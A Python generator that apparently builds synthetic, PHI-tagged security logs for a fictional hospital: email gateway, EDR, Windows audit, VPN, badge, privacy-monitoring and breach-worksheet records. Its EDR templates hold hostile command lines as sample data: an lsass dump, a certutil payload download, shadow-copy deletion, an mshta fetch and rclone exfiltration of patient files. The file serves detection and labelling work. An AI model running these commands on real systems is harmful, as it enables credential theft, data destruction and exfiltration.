    ln.t(" suborg=")
    out.append(ln)
    # rcpt
    ln = L("proofpoint-pps")
    ln.t(pre() + "m=1 x=%s-1 mod=session cmd=data rcpt=" % sid)
    if phi and not inbound and mode == 0:
        ln.p(p.email, "email")
    elif inbound:
        ln.t(s.email)
    else:
        ln.t(ch([s.personal, "claims@payer-portal.example", "orders@medline-vendor.example"]))
    ln.t(" suborg=")
    out.append(ln)
    # msg
    ln = L("proofpoint-pps")
    natt = R(1, 2)
    ln.t(pre() + "m=1 x=%s-1 mod=mail cmd=msg module= rule= action=continue attachments=%d rcpts=1 routes=%s size=%d guid=%s hdr_mid=<%s@%s> qid=%s hops-ip=%s subject=\""
         % (sid, natt, "allow_relay,internalnet" if not inbound else "default_inbound", R(4000, 9000000), b64rand(24).replace("/", "_").replace("+", "-")[:32],
            hexs(16), ch(["mail.gmail.com", DOM, "outlook.com", "docusign.net"]), "4A%sCj%06d" % (HEX(4), R(0, 999999)),
            ext_ip if inbound else "10.12.0.%d" % R(30, 60)))
    if phi and mode in (0, 1):
        ln.s(subj_phi(p), kvq)
    else:
        ln.t(kvq(ch(CLEAN_SUBJ)))
    ln.t("\" duration=%.3f elapsed=%.3f" % (random.uniform(0.05, 0.9), random.uniform(0.2, 3.0)))
    out.append(ln)
    for i in range(natt):
        ln = L("proofpoint-pps")
        ln.t(pre() + "m=1 x=%s-1 mod=mail cmd=attachment id=%d file=" % (sid, i))
        if phi and (mode == 2 or (mode in (0, 1) and i == 0 and R(0, 1))):
            segs = doc_file(p)
            ext = segs[-1] if isinstance(segs[-1], str) else ".pdf"
            ln.s(segs)
        else:
            f = ch(CLEAN_FILES)
            ext = "." + f.rsplit(".", 1)[1]
            ln.t(f)
        mime = {".pdf": "application/pdf", ".docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                ".xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".tif": "image/tiff",
                ".png": "image/png", ".zip": "application/zip", ".htm": "text/html", ".html": "text/html", ".txt": "text/plain",
                ".iso": "application/x-iso9660-image", ".wav": "audio/x-wav"}
        e = ext[ext.rfind("."):] if "." in ext else ".pdf"
        ln.t(" mime=%s type=%s omime=%s oext=%s corrupted=0 protected=0 size=%d virtual=0 sha256=%s"
             % (mime.get(e, "application/octet-stream"), e[1:], mime.get(e, "application/octet-stream"), e[1:], R(300, 8000000), sha256()))
        out.append(ln)
    # url rewrite (sometimes)
    if phi and R(0, 2) == 0:
        ln = L("proofpoint-pps")
        slug = ch(["%s%s" % (asc(p.first).lower().replace(" ", ""), asc(p.last).lower().replace("-", "")),
                   "%s-%s" % (asc(p.first).lower().replace(" ", "-"), asc(p.last).lower())])
        url = ch(["https://www.caringbridge.org/visit/%s" % slug, "https://www.gofundme.com/f/help-%s-recover" % slug,
                  "https://www.facebook.com/%s.%d" % (slug.replace("-", "."), R(1, 99))])
        ln.t(pre() + "m=1 x=%s-1 mod=urldefense cmd=rewrite rule=urldefense url=" % sid).p(url, "url").t(" rewritten=https://urldefense.com/v3/__").p(url, "url").t("__;!!%s$" % b64rand(30)[:38])
        out.append(ln)
    elif not phi and R(0, 2) == 0:
        ln = L("proofpoint-pps")
        ln.t(pre() + "m=1 x=%s-1 mod=urldefense cmd=click url=https://%s/%s action=%s threat=%s src_ip=%s user=%s"
             % (sid, ch(["m1crosoft-authverify.example", "docusign-review.example", "sgrmc-payroll.example"]), hexs(12),
                ch(["blocked", "permitted"]), ch(["phish", "malware", "none"]), priv_ip(), s.email))
        out.append(ln)
    ln = L("proofpoint-pps")
    ln.t(pre() + "m=1 x=%s-1 mod=session cmd=disconnect module= rule= action= helo=%s msgs=1 rcpts=1 routes= duration=%.2f elapsed=%.2f"
         % (sid, ch(["mail-yw1-f176.google.com", "NAM11-BN8-obe.outbound.protection.outlook.com", "mx.docusign.net", "exch-hyb01." + AD]),
            random.uniform(0.1, 2), random.uniform(0.3, 4)))
    out.append(ln)
    return out


def t_mimecast(dt, phi):
    ln = L("mimecast-json")
    s = staff()
    p = pt() if phi else None
    o = [("datetime", dt.strftime("%Y-%m-%dT%H:%M:%S") + "-0500"), ("aCode", b64rand(16).rstrip("=").replace("+", "-").replace("/", "_")),
         ("acc", "CUSA48A213"), ("AttSize", R(20000, 5000000)), ("Act", ch(["Acc", "Hld"])), ("AttCnt", 1)]
    if phi:
        fname = doc_file(p)
        o += [("AttNames", S(['"'] + fname + ['"'])), ("MsgSize", R(30000, 6000000)), ("MsgId", "<%s@%s>" % (hexs(20), DOM)),
              ("Subject", S(subj_phi(p))), ("headerFrom", s.email), ("Sender", s.email),
              ("Rcpt", Ph(p.email, "email") if R(0, 1) else "records@quickfax-relay.example"), ("Dir", "Outbound"), ("IP", "10.12.0.%d" % R(30, 60)),
              ("fileName", S(fname)), ("sha256", sha256()), ("Route", "Outbound"), ("Reason", "Content Examination - HIPAA PHI")]
    else:
        f = ch(CLEAN_FILES)
        o += [("AttNames", '"%s"' % f), ("MsgSize", R(30000, 6000000)), ("MsgId", "<%s@%s>" % (hexs(20), ch(["mail.gmail.com", "docusign.net", "outlook.com"]))),
              ("Subject", ch(CLEAN_SUBJ)), ("headerFrom", ch(["noreply@docusign.net", "billing@medline-vendor.example", "it-alerts@" + DOM])),
              ("Sender", "bounce-%d@%s" % (R(1000, 9999), ch(["mailer.example", "docusign.net"]))), ("Rcpt", s.email), ("Dir", "Inbound"),
              ("IP", atk_ip() if R(0, 1) else "40.107.%d.%d" % (R(1, 250), R(1, 250))), ("fileName", f), ("sha256", sha256()),
              ("Route", "Inbound"), ("Reason", ch(["Safe", "Malicious", "Unknown", "Suspicious"]))]
    ln.j(O(o))
    return ln


# ---------------------------------------------------------------- templates: EDR

CLEAN_CMDS = [
    ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "Suspicious PowerShell", "T1059.001", "Execution"),
    ("rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 732 C:\\Windows\\Temp\\lsass.dmp full", "Credential Dumping", "T1003.001", "Credential Access"),
    ("certutil.exe", "certutil.exe -urlcache -split -f http://45.141.84.17/a.bin C:\\Users\\Public\\a.bin", "Ingress Tool Transfer", "T1105", "Command and Control"),
    ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "Inhibit System Recovery", "T1490", "Impact"),
    ("AnyDesk.exe", "\"C:\\Users\\%s\\Downloads\\AnyDesk.exe\" --silent --start-with-win", "Remote Access Software", "T1219", "Command and Control"),
    ("wmic.exe", "wmic /node:10.42.18.77 process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"", "Remote WMI Execution", "T1047", "Execution"),
    ("net.exe", "net group \"Domain Admins\" /domain", "Account Discovery", "T1087.002", "Discovery"),
    ("mshta.exe", "mshta.exe https://sgrmc-payroll.example/inv.hta", "Mshta", "T1218.005", "Defense Evasion"),
]


FPATH = {"powershell.exe": "Windows\\System32\\WindowsPowerShell\\v1.0", "rundll32.exe": "Windows\\System32",
         "certutil.exe": "Windows\\System32", "vssadmin.exe": "Windows\\System32", "wmic.exe": "Windows\\System32\\wbem",
         "net.exe": "Windows\\System32", "mshta.exe": "Windows\\System32", "7z.exe": "Program Files\\7-Zip",
         "Robocopy.exe": "Windows\\System32", "EXCEL.EXE": "Program Files\\Microsoft Office\\root\\Office16",
         "rclone.exe": "Users\\Public\\Tools"}


def phi_cmd(p, s):
    k = R(0, 4)
    fn = doc_file(p)
    if k == 0:
        return "7z.exe", ["\"C:\\Program Files\\7-Zip\\7z.exe\" a -tzip -p%s C:\\Users\\%s\\AppData\\Local\\Temp\\batch_%d.zip \"\\\\fs-him01\\HIM$\\ROI\\2024-%02d\\"
                          % (ch(["W1nter24!", "sgr2024", "Qwerty!9"]), s.user, R(1, 99), R(8, 11))] + fn + ["\""], "Data Staged for Exfiltration", "T1560.001", "Collection"
    if k == 1:
        return "Robocopy.exe", ["\"C:\\Windows\\System32\\Robocopy.exe\" \"\\\\fs-him01\\HIM$\\Scans\\", nm(p, "file"), "_", Ph(p.mrn, "mrn"), "\" E:\\backup /E /R:1 /W:1"], \
            "Bulk Copy to Removable Media", "T1052.001", "Exfiltration"
    if k == 2:
        return "powershell.exe", ["powershell.exe -nop -c \"Get-ChildItem -Recurse \\\\fs-him01\\scans -Filter '*", Ph(p.last, "name"), "*' | Copy-Item -Destination C:\\Users\\%s\\OneDrive\\tmp\"" % s.user], \
            "Suspicious File Enumeration", "T1083", "Discovery"
    if k == 3:
        return "rclone.exe", ["rclone.exe copy \"E:\\HIM\\Export\\", nm(p, "file"), "_", Ph(p.mrn, "mrn"), "\" mega:bk --transfers 8 --no-check-certificate"], \
            "Exfiltration to Cloud Storage", "T1567.002", "Exfiltration"
    return "EXCEL.EXE", ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\%s\\Downloads\\" % s.user] + fn + ["\""], \
        "Macro-enabled document opened from Internet", "T1204.002", "Execution"


def t_falcon(dt, phi):
    ln = L("falcon-edr")
    s = staff()
    h = host()
    if phi:
        p = pt()
        fname, cmd, dname, tech, tac = phi_cmd(p, s)
        cmdv = S(cmd)
    else:
        fname, cmd, dname, tech, tac = ch(CLEAN_CMDS)
        cmdv = cmd % s.user if "%s" in cmd else cmd
    aid = hexs(32)
    sev = ch([3, 4, 5])
    ev = O([("ProcessStartTime", epoch(dt) - R(0, 30)), ("ProcessEndTime", 0), ("ProcessId", R(1000, 99999) * 1000 + R(0, 999)),
            ("ParentProcessId", R(1000, 99999) * 1000 + R(0, 999)), ("ComputerName", h), ("UserName", s.user),
            ("DetectName", dname), ("DetectDescription", "A process exhibited behavior consistent with %s." % tac.lower()),
            ("Severity", sev), ("SeverityName", {3: "Medium", 4: "High", 5: "Critical"}[sev]), ("FileName", fname),
            ("FilePath", "\\Device\\HarddiskVolume3\\%s" % FPATH.get(fname, "Users\\%s\\Downloads" % s.user)),
            ("CommandLine", cmdv), ("SHA256String", sha256()), ("MD5String", md5()), ("SHA1String", "0" * 40),
            ("MachineDomain", "SGRMC"), ("FalconHostLink", "https://falcon.us-2.crowdstrike.com/activity/detections/detail/%s/%d" % (aid, R(10 ** 10, 10 ** 11))),
            ("SensorId", aid), ("DetectId", "ldt:%s:%d" % (aid, R(10 ** 10, 10 ** 11))), ("LocalIP", priv_ip()),
            ("MACAddress", "-".join("%02x" % R(0, 255) for _ in range(6))), ("Tactic", tac), ("Technique", tech), ("Objective", ch(["Falcon Detection Method", "Gain Access", "Keep Access", "Follow Through"])),
            ("PatternDispositionDescription", ch(["Detection, standard detection.", "Prevention, process killed.", "Prevention, operation blocked."])),
            ("PatternDispositionValue", ch([0, 16, 2048]))])
    o = O([("metadata", O([("customerIDString", "c4f9" + hexs(28)), ("offset", R(1000000, 9000000)), ("eventType", "DetectionSummaryEvent"),
                           ("eventCreationTime", epoch(dt) * 1000 + R(0, 999)), ("version", "1.0")])), ("event", ev)])
    ln.j(o)
    return ln


def t_mde_file(dt, phi):
    ln = L("mde-devicefileevents")
    s = staff()
    h = host()
    if phi:
        p = pt()
        segs = doc_file(p)
        fn = S(segs)
        folder = S(["E:\\", ch(["ROI", "export", "HIM_backup"]), "\\"] + segs)
        act = ch(["FileCreated", "FileRenamed", "FileModified"])
    else:
        f = ch(CLEAN_FILES)
        fn = f
        folder = "C:\\Users\\%s\\%s\\%s" % (s.user, ch(["Downloads", "Documents", "Desktop"]), f)
        act = ch(["FileCreated", "FileModified", "FileDeleted"])
    props = O([("Timestamp", utc7(dt)), ("DeviceId", hexs(40)), ("DeviceName", fqdn(h)), ("ActionType", act), ("FileName", fn),
               ("FolderPath", folder), ("SHA1", hexs(40)), ("SHA256", sha256()), ("MD5", md5()), ("FileSize", R(1000, 9000000)),
               ("InitiatingProcessAccountDomain", "sgrmc"), ("InitiatingProcessAccountName", s.user), ("InitiatingProcessAccountSid", s.sid),
               ("InitiatingProcessFileName", ch(["explorer.exe", "robocopy.exe", "7z.exe", "EXCEL.EXE", "chrome.exe"])),
               ("InitiatingProcessId", R(400, 30000)), ("ReportId", R(1000, 99999)), ("SensitivityLabel", ch(["Confidential - PHI", "General", ""]) if phi else ch(["General", ""]))])
    o = O([("time", utc7(dt)), ("tenantId", "6f1c2d0e-5a7b-4c3d-9e8f-1a2b3c4d5e6f"), ("operationName", "Publish"),
           ("category", "AdvancedHunting-DeviceFileEvents"), ("properties", props)])
    ln.j(o)
    return ln


def t_winsec(dt, phi):
    ln = L("winsec-xml")
    s = staff()
    h = "FS-HIM01" if phi else ch(["FS-HIM01", "FS-FIN01", "FS-SHARED02"])
    ts = utc(dt).strftime("%Y-%m-%dT%H:%M:%S") + ".%07dZ" % R(0, 9999999)
    k = R(0, 2) if not phi else 9
    code = 4663 if (phi or k == 0) else ch([4624, 4625])
    ln.t("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>%d</EventID><Version>%d</Version><Level>0</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords><TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='%d'/><Channel>Security</Channel><Computer>%s.%s</Computer><Security/></System><EventData>"
         % (code, 1 if code == 4663 else 2, 12800 if code == 4663 else 12544, "0x8010000000000000" if code == 4625 else "0x8020000000000000",
            ts, R(10 ** 7, 10 ** 9), R(100, 9000), h.lower(), AD))
    ln.t("<Data Name='SubjectUserSid'>%s</Data><Data Name='SubjectUserName'>%s</Data><Data Name='SubjectDomainName'>SGRMC</Data><Data Name='SubjectLogonId'>0x%x</Data>"
         % (s.sid, s.user, R(0x100000, 0xfffffff)))
    if code == 4663:
        ln.t("<Data Name='ObjectServer'>Security</Data><Data Name='ObjectType'>File</Data><Data Name='ObjectName'>")
        if phi:
            ln.s(["D:\\Shares\\HIM\\", ch(["ROI", "Scans", "Discharge", "Legal_Holds"]), "\\2024-%02d\\" % R(6, 11)] + doc_file(pt()), xmle)
        else:
            ln.t(xmle("D:\\Shares\\%s\\%s" % (ch(["Finance", "Facilities", "IT\\Runbooks", "Shared\\Templates"]), ch(CLEAN_FILES))))
        ln.t("</Data><Data Name='HandleId'>0x%x</Data><Data Name='AccessList'>%%%%4416 </Data><Data Name='AccessMask'>0x1</Data><Data Name='ProcessId'>0x4</Data><Data Name='ProcessName'></Data><Data Name='ResourceAttributes'>S:AI</Data></EventData></Event>"
             % R(0x100, 0xffff))
    else:
        ln.t("<Data Name='TargetUserName'>%s</Data><Data Name='TargetDomainName'>SGRMC</Data><Data Name='LogonType'>%d</Data><Data Name='WorkstationName'>%s</Data><Data Name='IpAddress'>%s</Data><Data Name='IpPort'>%d</Data>%s</EventData></Event>"
             % (staff().user, ch([3, 10, 2]), host(), priv_ip(), R(49152, 65535),
                "<Data Name='Status'>0xc000006d</Data><Data Name='SubStatus'>0xc000006a</Data>" if code == 4625 else "<Data Name='LogonGuid'>{%s}</Data>" % guid().upper()))
    return ln




# ---------------------------------------------------------------- templates: VPN, badge, physical

def t_asa(dt, phi):
    ln = L("cisco-asa-vpn")
    s = staff()
    grp = ch(["GP-Clinical", "GP-IT-Admin", "GP-Vendor-Epic", "GP-Remote-Staff"])
    pre = "%s %s : " % (syslog_ts(dt), ch(["asa-vpn01", "asa-vpn02"]))
    v = R(0, 8)
    if v == 0:
        m = "%%ASA-6-113039: Group <%s> User <%s> IP <%s> AnyConnect parent session started." % (grp, s.user, s.ip)
    elif v == 1:
        m = "%%ASA-6-722051: Group <%s> User <%s> IP <%s> IPv4 Address <10.250.%d.%d> IPv6 address <::> assigned to session" % (grp, s.user, s.ip, R(0, 7), R(2, 254))
    elif v == 2:
        m = "%%ASA-4-113019: Group = %s, Username = %s, IP = %s, Session disconnected. Session Type: SSL, Duration: %dh:%02dm:%02ds, Bytes xmt: %d, Bytes rcv: %d, Reason: %s" % (
            grp, s.user, s.ip, R(0, 9), R(0, 59), R(0, 59), R(10 ** 5, 10 ** 9), R(10 ** 5, 10 ** 8), ch(["User Requested", "Idle Timeout", "Max time exceeded", "Port Reset"]))
    elif v == 3:
        m = "%%ASA-6-113004: AAA user authentication Successful : server =  10.20.4.%d : user = %s" % (R(10, 30), s.user)
    elif v == 4:
        m = "%%ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 10.20.4.11 : user = ***** : user IP = %s" % atk_ip()
    elif v == 5:
        m = "%%ASA-4-722037: Group <%s> User <%s> IP <%s> SVC closing connection: DPD failure." % (grp, s.user, s.ip)
    elif v == 6:
        m = "%%ASA-4-733100: [ Scanning] drop rate-1 exceeded. Current burst rate is %d per second, max configured rate is 10; Current average rate is %d per second, max configured rate is 5; Cumulative total count is %d" % (R(11, 90), R(5, 40), R(3000, 90000))
    elif v == 7:
        m = "%%ASA-6-716001: Group <%s> User <%s> IP <%s> WebVPN session started." % (grp, s.user, s.ip)
    else:
        m = "%%ASA-6-734001: DAP: User %s, Addr %s, Connection AnyConnect: The following DAP records were selected for this connection: DfltAccessPolicy, DAP-Posture-OK" % (s.user, s.ip)
    ln.t(pre + m)
    return ln


READERS = ["ED Ambulance Bay In", "Pharmacy Vault", "HIM Records Room", "NICU Main Entry", "Data Center DC1 Mantrap",
           "L&D Unit 3W", "Loading Dock B", "Parking Garage P2 Entry", "Tower B Stair 3 L4", "Central Sterile",
           "Cath Lab Corridor", "Server Room IDF-4C"]


def t_badge(dt, phi):
    ln = L("lenel-badge")
    s = staff()
    rd = ch(READERS)
    pre = "%s lenel-ogsrv01 OnGuard[%d]: " % (dt.strftime("%Y-%m-%d %H:%M:%S"), R(2000, 2400))
    v = R(0, 6)
    if v <= 2:
        ln.t(pre + 'EventType="Granted Access" Panel="LNL-X4420 %s" Reader="%s" CardNumber=%d Cardholder="%s, %s" Dept="%s" Segment="Main Campus"'
             % (ch(["Tower A", "Tower B", "ED", "Pavilion"]), rd, s.badge, s.last, s.first, s.dept))
    elif v == 3:
        ln.t(pre + 'EventType="Denied Access: Invalid Time Zone" Reader="%s" CardNumber=%d Cardholder="%s, %s" Dept="%s"' % (rd, s.badge, s.last, s.first, s.dept))
    elif v == 4:
        ln.t(pre + 'EventType="Denied Access: Badge Not In Panel" Reader="%s" CardNumber=%d Cardholder="" Facility=%d' % (rd, R(10000, 99999), R(10, 99)))
    elif v == 5:
        ln.t(pre + 'EventType="Door Forced Open" Reader="%s" Alarm=Yes Priority=%d AckBy="%s"' % (rd, R(1, 5), ch(["tfifita", "Security Console 2", ""])))
    else:
        ln.t(pre + 'EventType="Door Held Open" Reader="%s" Duration=%ds Alarm=Yes' % (rd, R(31, 400)))
    return ln


def t_physical(dt, phi):
    """Visitor management, infant security, parking LPR."""
    k = R(0, 2)
    ts = iso_off(dt, ms=False)
    if k == 0:
        ln = L("visitor-mgmt")
        ln.t("%s vms-app01 VisitorMgmt: action=%s badge=V-%d-%06d " % (ts, ch(["CHECK_IN", "CHECK_OUT", "WATCHLIST_SCREEN"]), dt.year % 100, R(0, 999999)))
        if not phi:
            he = staff()
            ln.t('visitor_type=Vendor company="%s" host_employee="%s, %s" dest="%s" id_scan=skipped' % (
                ch(["Medline Industries", "Stryker", "Otis Elevator", "Siemens Healthineers"]), he.last, he.first, ch(["Tower B L1", "Cath Lab", "Loading Dock B"])))
            return ln
        p = pt()
        r = p.rel
        ln.t('visitor="').s([relname(p)]).t('" relationship=%s visiting_patient="' % r[2]).s([nm(p, "LF")])
        unit = ch(["4W", "5E", "2N ICU", "3W L&D"])
        ln.t('" unit=%s room=%s-%02d pt_mrn=' % (unit, unit[0], R(1, 40))).p(p.mrn, "mrn")
        if R(0, 1):
            st = ch(["WA", "ID"])
            dl = ("WDL" + "".join(ch("ABCDEFGHJKLMNPRSTUVWXYZ0123456789") for _ in range(9))) if st == "WA" else \
                (ch("ABCDEFGHJKLMNPRSTUVWXYZ") + ch("ABCDEFGHJKLMNPRSTUVWXYZ") + digits(6) + ch("ABCDEFGHJKLMNPRSTUVWXYZ"))
            ln.t(" id_scan=DL:%s:" % st).p(dl, "license")
        else:
            ln.t(" id_scan=skipped")
        ln.t(" screen=clear")
        return ln
    if k == 1:
        ln = L("infant-security")
        if not phi:
            ln.t("%s hugs-srv01 HUGS: EVENT type=%s zone=%s tag=none result=%s operator=%s" % (
                ts, ch(["EXIT_DOOR_TEST", "SYSTEM_HEALTH", "RECEIVER_OFFLINE"]), ch(["3W-EXIT-N", "NICU-EXIT-E", "L&D-ELEV"]), ch(["OK", "ACK", "PASS"]), ch(["nDube", "abrooks", "SYSTEM"])))
            return ln
        inf = ch(INFANTS)
        ln.t("%s hugs-srv01 HUGS: ALARM type=%s tag=" % (ts, ch(["TAG_TAMPER", "LOOSE_BAND", "EXIT_ALARM", "LOW_BATTERY"])))
        ln.p(inf["tag"], "device").t(' infant="').p(inf["name"], "name").t('" mother="').s([nm(inf["mom"], "LF")])
        ln.t('" mrn=').p(inf["mrn"], "mrn").t(" mother_mrn=").p(inf["mom"].mrn, "mrn").t(' location="%s Rm %d" ack_by=%s' % (ch(["3W L&D", "NICU", "Mother-Baby 2E"]), R(300, 340), ch(["nDube", "abrooks"])))
        return ln
    ln = L("parking-lpr")
    if not phi:
        s = staff()
        ln.t("%s lpr-garage-p2 ParkCtl: plate=%s state=WA permit=EMP-%04d holder=\"%s, %s\" lane=%d result=OPEN conf=%.2f"
             % (ts, s.plate, R(1, 4000), s.last, s.first, R(1, 4), random.uniform(0.8, 0.99)))
        return ln
    p = pt()
    ln.t("%s lpr-garage-p2 ParkVal: plate=" % ts).p(p.plate, "vehicle").t(" state=%s validation=%s pt_mrn=" % (p.state, ch(["ONC-INFUSION", "DIALYSIS", "CARDIAC-REHAB", "ED"])))
    ent = dt - datetime.timedelta(minutes=R(35, 300))
    ln.p(p.mrn, "mrn").t(" entry=%s exit=%s fee=0.00 conf=%.2f" % (ent.strftime("%H:%M"), dt.strftime("%H:%M"), random.uniform(0.8, 0.99)))
    return ln


# ---------------------------------------------------------------- privacy monitoring (ASCII-escaped JSON)

def t_privacy(dt, phi):
    ln = L("privacy-monitor")
    e = staff()
    if not phi:
        oc = analyst()
        o = O([("event", "batch_complete"), ("ts", utc3(dt)), ("source", "epic_access_log"), ("rows_ingested", R(200000, 3000000)),
               ("alerts_generated", R(0, 40)), ("model", "prt-v%d.%d.%d" % (R(4, 6), R(0, 9), R(0, 20))), ("lag_seconds", R(30, 900)),
               ("contact", "privacy@%s" % DOM), ("oncall", "%s %s" % (oc.first, oc.last))])
        ln.j(o, esc=jea)
        return ln
    cat = ch(["Coworker", "Family Member", "VIP", "Neighbor", "Deceased Patient", "Self-Access"])
    p = ch(DECEASED) if cat == "Deceased Patient" else pt()
    pat = [("name", nm(p, ch(["lf", "FL"]))), ("mrn", Ph(p.mrn, "mrn")), ("dob", Ph(dfmt(p.dob, "iso"), "date")),
           ("age", Ph(str(p.age), "age", raw=True) if p.age > 89 else p.age), ("sex", p.sex)]
    if cat == "Neighbor":
        pat.append(("address", S(addr(p, with_zip=False))))
    if cat == "Deceased Patient":
        pat.append(("deceased_date", Ph(dfmt(p.dis, "iso"), "date")))
    o = O([("alert_id", "PRT-%d-%06d" % (dt.year, R(0, 999999))), ("created", utc3(dt)), ("category", cat), ("score", R(55, 99)),
           ("employee", O([("name", "%s %s" % (e.first, e.last)), ("user_id", e.user), ("dept", e.dept)])),
           ("patient", O(pat)),
           ("access", O([("app", "Epic Hyperspace"), ("activity", ch(["Chart Review - Results", "Snapshot", "Notes", "Demographics"])),
                         ("count", R(1, 40)), ("first", utc3(dt - datetime.timedelta(hours=R(1, 40))))])),
           ("assigned_to", "srao")])
    ln.j(o, esc=jea)
    return ln


# ---------------------------------------------------------------- breach investigation worksheet

def ws_pre(dt, a, section):
    return "BRX-2024-017 | %s | %s. %s (%s) | %s | " % (dt.strftime("%Y-%m-%d %H:%M"), a.first[0], a.last, a.dept, section)


CLEAN_NOTES = [
    ("Timeline", "Initial report from HIM supervisor: WS-HIM-0412 showed robocopy to USB at 02:14; user account rbauer disabled at 10:31."),
    ("Evidence", "Forensic image of WS-HIM-0412 acquired (E01, 476 GB), SHA256 %s; chain of custody form CoC-0917."),
    ("Evidence", "USB device VID_0781&PID_5583 serial 4C530001170815118131 recovered from locker B-14; staff-issued, inventory tag IT-48213."),
    ("Scope", "Clarity query confirms %d unique MRNs touched between 2024-10-28 and 2024-11-03; dedup in progress (ticket INC%07d)."),
    ("Risk Assessment", "Factor 1 (nature/extent): SSN present for 37 of 212 individuals; diagnoses present for all. Factor 2: unauthorized person unknown."),
    ("Risk Assessment", "Factor 3: no evidence data was viewed after exfil; Factor 4: mitigation - device recovered, encryption status unknown."),
    ("Legal", "Outside counsel (Harlow & Finch LLP) engaged 2024-11-06; privilege header applied to worksheet from this entry forward."),
    ("Notification", "HHS OCR breach portal submission due no later than 2025-01-02 (60 days from discovery 2024-11-03)."),
    ("Notification", "Mail vendor job #MV-2024-1183 created; %d letters; call center 1-888-555-0142 staffed Mon-Fri 8-5 PT."),
    ("Containment", "Blocked 45.141.84.17 and 185.220.101.33 at perimeter; MyChart WAF rule 942100 set to block; forced reset on 1,204 portal accounts."),
    ("Timeline", "Splunk notable 5C1F0B7A escalated by L. Fernández at 08:42; Sentinel incident %d linked."),
    ("Evidence", "Proofpoint TAP shows 3 clicks on sgrmc-payroll.example from 10.42.18.77 (WS-ED-0142) before block."),
    ("Interview", "Interviewed HIM clerk (employee #0417) with HR present; states export was for ROI backlog; manager unaware."),
    ("Scope", "Exfil archive batch_17.zip: %d files, 4.2 GB, created 2024-11-02 02:11 local; password-protected."),
    ("Admin", "Worksheet reviewed by CISO G. McAllister; next checkpoint 2024-11-08 09:00, bridge 509-555-0100 x4471."),
]


def t_worksheet(dt, phi):
    ln = L("ir-worksheet")
    a = analyst()
    if not phi:
        sec, note = ch(CLEAN_NOTES)
        if "%s" in note:
            note = note % sha256()
        elif "%d" in note and "%07d" in note:
            note = note % (R(150, 260), R(40000, 99999))
        elif "%d" in note:
            note = note % R(150, 5000)
        ln.t(ws_pre(dt, a, sec) + note)
        return ln
    p = pt()
    k = R(0, 10)
    if k >= 9:
        ln.t(ws_pre(dt, a, "Related Event") + "Cross-ref BRX-2024-019: ROI packet for ").s([nm(p, "FL")]).t(" (DOB ").p(dfmt(p.dob, "us"), "date")
        ln.t(") meant for patient's home fax ").p(pfmt(p.phone2, ch(["paren", "dash"])), "fax").t(" was sent to 509-555-0177 (Valley Orthopedics front desk fax); recipient attested destruction")
        return ln
    if k == 0:
        ln.t(ws_pre(dt, a, "Affected Individuals") + "#%03d " % R(1, 212)).s([nm(p, "lf"), "; DOB ", Ph(dfmt(p.dob, "us"), "date"), " ("])
        ln.s(agefrag(p, "%dy")).t("); MRN ").p(p.mrn, "mrn").t("; ").s(addr(p)).t("; elements: name, DOB, %s, dx" % ch(["SSN", "MRN", "insurance ID", "address"]))
    elif k == 1:
        ln.t(ws_pre(dt, a, "Notification") + "Letter for ").s([nm(p, "FL")]).t(" returned undeliverable; updated address from ADT: ").s(addr(p)).t("; resend queued")
    elif k == 2:
        r = p.rel
        ln.t(ws_pre(dt, a, "Call Log") + "Spoke with patient's %s " % r[2].lower()).s([relname(p)]).t(" at ").p(pfmt(r[3]), "phone")
        ln.t(" re: letter for ").s([nm(p, "FL")]).t(" (MRN ").p(p.mrn, "mrn").t("); caller verified DOB ").p(dfmt(p.dob, "usnz"), "date").t("; credit monitoring code issued")
    elif k == 3:
        ln.t(ws_pre(dt, a, "Evidence") + "MyChart account ").p(p.portal, "other_id").t(" (MRN ").p(p.mrn, "mrn").t(") accessed from %s; patient's usual IP " % atk_ip())
        ln.p(p.ip, "ip").t("; password reset, device ").p(p.imei, "device").t(" de-registered from MFA")
    elif k == 4:
        slug = "%s-%s" % (asc(p.first).lower().replace(" ", "-"), asc(p.last).lower())
        ln.t(ws_pre(dt, a, "Social Media") + "Phishing lure referenced patient fundraiser ").p("https://www.gofundme.com/f/help-%s-recover" % slug, "url")
        ln.t("; patient ").s([nm(p, "FL")]).t(" admitted ").p(dfmt(p.adm, "us"), "date").t(" - confirms lure built from exfil data")
    elif k == 5:
        p = ch(DECEASED)
        ln.t(ws_pre(dt, a, "Notification") + "Patient ").s([nm(p, "LF")]).t(" deceased ").p(dfmt(p.dis, "us"), "date").t("; letter to next of kin ")
        ln.s([relname(p)]).t(" at ").s(addr(p)).t(", email ").p("%s.%s@%s" % (asc(p.rel[0]).lower(), asc(p.rel[1]).lower(), ch(MAILDOM)), "email")
    elif k == 6:
        ln.t(ws_pre(dt, a, "Sample Record") + "From batch_17.zip/export_0412.csv: ").s(snippet(p))
    elif k == 7:
        ln.t(ws_pre(dt, a, "Identity Verification") + "Caller claiming to be ").s([nm(p, "FL")]).t(" verified via WA DL ").p(p.dl, "license")
        ln.t(" and last visit ").p(dfmt(p.adm, "iso"), "date").t("; callback number ").p(pfmt(p.phone), "phone")
    else:
        ln.t(ws_pre(dt, a, "Affected Individuals") + "Medicare beneficiary ").s([nm(p, "LF")]).t(" MBI ").p(mbi_fmt(p.mbi or mbi()), "health_plan")
        ln.t("; CMS notification not required; residence county ").p(p.county, "address")
    return ln


# ---------------------------------------------------------------- proxy

def t_zscaler(dt, phi):
    ln = L("zscaler-nss")
    s = staff()
    pre = "%s zscaler-nss01 zscaler-nss: " % syslog_ts(dt)
    blocked = (not phi) and R(0, 3) == 0
